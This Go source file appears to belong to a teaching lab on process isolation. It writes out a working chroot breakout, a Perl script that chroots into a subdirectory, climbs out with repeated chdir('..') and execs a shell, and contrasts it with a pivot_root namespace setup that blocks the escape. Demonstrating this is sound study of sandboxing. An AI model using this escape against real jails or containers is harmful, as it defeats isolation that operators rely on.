package escape

import (
	"context"
	"os"

	"golang.org/x/sys/unix"

	"byhand/lab/bench"
	"byhand/lab/namespace"
	"byhand/lab/sandbox"
)

// lend returns the flags by which an ordinary user, who may not chroot, becomes
// root in a user namespace, who may.
func lend() uintptr {
	if os.Geteuid() != 0 {
		return unix.CLONE_NEWUSER
	}
	return 0
}

func lockShell(*bench.Bench) string {
	enter := "chroot"
	if lend() != 0 {
		enter = "unshare --user --map-root-user chroot"
	}
	return `echo 'the machine' >"$LAB/outside.txt"
mkfifo "$LAB/in"
` + enter + ` "$LAB/rootfs" /bin/sh <>"$LAB/in" >"$LAB/out" 2>&1 &
echo $! >"$LAB/pid"
`
}

// lock stands a shell in a root that chroot(2) gives.
func lock(ctx context.Context, b *bench.Bench) error {
	if err := os.WriteFile(b.Path("outside.txt"), []byte("the machine\n"), 0o644); err != nil {
		return err
	}
	return sandbox.Stand(ctx, b, namespace.Isolated(lend(), "chroot", sandbox.Shell(b)))
}

// toolShell writes the way out for perl(1): chroot(1) does what spoils it,
// chdir(2) into the new root. It is there for either step, as one may be skipped.
const toolShell = `perl=$(command -v perl)
for file in "$perl" $(ldd "$perl" | grep -o '/[^ )]*'); do
  [ -e "$LAB/rootfs$file" ] || cp -L --parents "$file" "$LAB/rootfs"
done
cat >"$LAB/rootfs/escape.pl" <<'END'
chdir "/";
chroot "tmp" or die "chroot tmp: $!";
chdir ".." for 1 .. 64;
chroot "." or die "chroot .: $!";
exec "/bin/sh";
END
`

const escapeShell = `# chroot(1) goes into the new root. perl does nothing but the system call:
` + toolShell + `echo "exec $perl /escape.pl" >"$LAB/in"
until [ "/proc/$(cat "$LAB/pid")/root" -ef / ]; do sleep 0.1; done
`

// escape locks another one up, which breaks out. The one that stands can't be
// told to: a shell has no command for it.
func escape(ctx context.Context, b *bench.Bench) error {
	if err := sandbox.End(ctx, b); err != nil {
		return err
	}
	return sandbox.Stand(ctx, b, namespace.Isolated(lend(), "escape", sandbox.Shell(b)))
}

const pivotShell = `kill -9 "$(cat "$LAB/pid")"
rm "$LAB/in" "$LAB/out" "$LAB/pid"
` + toolShell + `mkfifo "$LAB/in"
# Twice the same directory: the old root ends up on top, and is taken away. With
# the machine's processes in proc, /proc/1/root would be another way out.
# shellcheck disable=SC2016
unshare --mount --uts --ipc --net --pid --fork --user --map-root-user sh -euc '
  mount --rbind "$0" "$0"
  cd "$0"
  mount -t proc proc proc
  pivot_root . .
  umount -l .
  exec "$1" /escape.pl' "$LAB/rootfs" "$perl" <>"$LAB/in" >"$LAB/out" 2>&1 &
until pgrep -P $! >"$LAB/pid"; do sleep 0.1; done
until [ "$(tr '\0' ' ' <"/proc/$(cat "$LAB/pid")/cmdline")" = '/bin/sh ' ]; do sleep 0.1; done
`

// pivot locks one up that can't break out.
func pivot(ctx context.Context, b *bench.Bench) error {
	if err := sandbox.End(ctx, b); err != nil {
		return err
	}
	return sandbox.Stand(ctx, b, namespace.Isolated(namespace.Six, "pivot", sandbox.Shell(b)))
}
